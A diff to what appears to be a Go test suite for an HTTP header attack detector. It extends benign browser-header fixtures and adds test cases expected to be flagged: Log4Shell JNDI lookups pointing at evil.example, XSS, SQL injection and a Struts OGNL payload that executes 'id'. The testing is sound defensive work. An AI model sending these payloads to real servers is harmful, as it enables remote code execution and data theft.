@@ -132,13 +132,42 @@ var browserHeaders = [][2]string{
 	{"Referer", "https://shop.example.com/products/42?ref=home&utm_source=news%20letter"},
 	{"Accept-Encoding", "gzip, deflate, br"},
 	{"Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"},
-	{"Cookie", "session=3f2a9c1e7b6d4a58; theme=dark; _ga=GA1.1.123456789.1700000000"},
+	{"Cookie", "session=3f2a9c1e7b6d4a58; theme=dark; _ga=GA1.1.123456789.1700000000; _ga_X1Y2Z3=GS1.1.1700000000.1.0.1700000000.0.0.0; " +
+		"__Host-next-auth.csrf-token=3d6f0a%7C9b1e; __Secure-next-auth.session-token=eyJhbGciOiJkaXIifQ..abc; AWSALB=Xb1wZ+/abc==; " +
+		"JSESSIONID=node01abc.node0; wp-settings-time-1=1700000000; _gcl_au=1.1.1234.1700000000; cf_clearance=Ab1.2-1700000000-0-1; " +
+		"__stripe_mid=0f9a6b1c-2d3e; XSRF-TOKEN=eyJpdiI6Ik; laravel_session=eyJpdiI6; PHPSESSID=u3k9; csrftoken=Yp4t; connect.sid=s%3Aabc.def; " +
+		"ASP.NET_SessionId=x2y3; .AspNetCore.Cookies=CfDJ8; __cf_bm=abc.def-1700000000-0-AQ==; OptanonAlertBoxClosed=2024-01-15T10:20:30.000Z"},
 	{"If-None-Match", `W/"5e-1a2b3c"`},
 	{"If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"},
 	{"Cache-Control", "max-age=0"},
 	{"Origin", "https://shop.example.com"},
 	{"Priority", "u=0, i"},
 	{"DNT", "1"},
+	{"Sec-CH-UA-Full-Version-List", `"Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.109", "Google Chrome";v="120.0.6099.109"`},
+	{"Sec-CH-UA-Arch", `"x86"`},
+	{"Sec-Purpose", "prefetch;prerender"},
+	{"Range", "bytes=0-1023, 2048-"},
+	{"If-Match", `"xyzzy", "r2d2xxxx", W/"c3piozzzz"`},
+	{"If-Range", `"737060cd8c284d8af7ad3082f209582d"`},
+	{"Access-Control-Request-Method", "PUT"},
+	{"Access-Control-Request-Headers", "content-type, x-requested-with, authorization"},
+	{"Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
+	{"Pragma", "no-cache"},
+	{"Forwarded", `for="[2001:db8:cafe::17]:4711";proto=https;by=_hidden, for=192.0.2.43`},
+	{"Via", "1.1 vegur, 1.1 varnish (Varnish/7.4), HTTP/1.1 proxy.example.com:3128"},
+	{"X-Forwarded-Proto", "https"},
+	{"X-Forwarded-Host", "shop.example.com:443"},
+	{"X-Forwarded-Port", "443"},
+	{"X-Real-IP", "203.0.113.7"},
+	{"Tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7"},
+	{"Baggage", "userId=alice,serverNode=DF%2028,isProduction=false;ttl=60"},
+	{"X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"},
+	{"Sentry-Trace", "771a43a4192642f0b136d5159a501700-b7ad6b7169203331-1"},
+	{"B3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1-05e3ac9a4f6e3b90"},
+	{"X-Cloud-Trace-Context", "105445aa7843bc8bf206b12000100000/1;o=1"},
+	{"Uber-Trace-Id", "5b8aa5a2d2c872e8321cf37308d69df2:051581bf3cb55c13:0:1"},
+	{"X-Request-Start", "t=1700000000123"},
+	{"Accept-CH", "Sec-CH-UA-Platform-Version, Sec-CH-UA-Model"},
 }
 
 var mobileHeaders = [][2]string{
@@ -190,7 +219,11 @@ func TestAllHeaders(t *testing.T) {
 		{"user-agent scanner", "User-Agent", "sqlmap/1.7.4#stable (https://sqlmap.org)", KindScanner},
 		{"excluded credential", "Authorization", "Basic ' or 1=1--", KindNone},
 		{"excluded by option", "X-Tenant-Secret", "<script>alert(1)</script>", KindNone},
-		{"excluded prefix", "Sec-Fetch-Dest", "<script>alert(1)</script>", KindNone},
+		{"fetch metadata", "Sec-Fetch-Dest", "<script>alert(1)</script>", KindXSS},
+		{"log4shell in negotiation", "Accept-Language", "${jndi:ldap://evil.example/a}", KindJNDI},
+		{"log4shell in tracing", "X-Correlation-Id", "${jndi:ldap://evil.example/a}", KindJNDI},
+		{"sqli in forwarding", "X-Forwarded-For", "1' or '1'='1", KindSQLi},
+		{"ognl in content type", "Content-Type", "%{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}", KindCodeInjection},
 	}
 	for _, a := range attacks {
 		var req fasthttp.Request
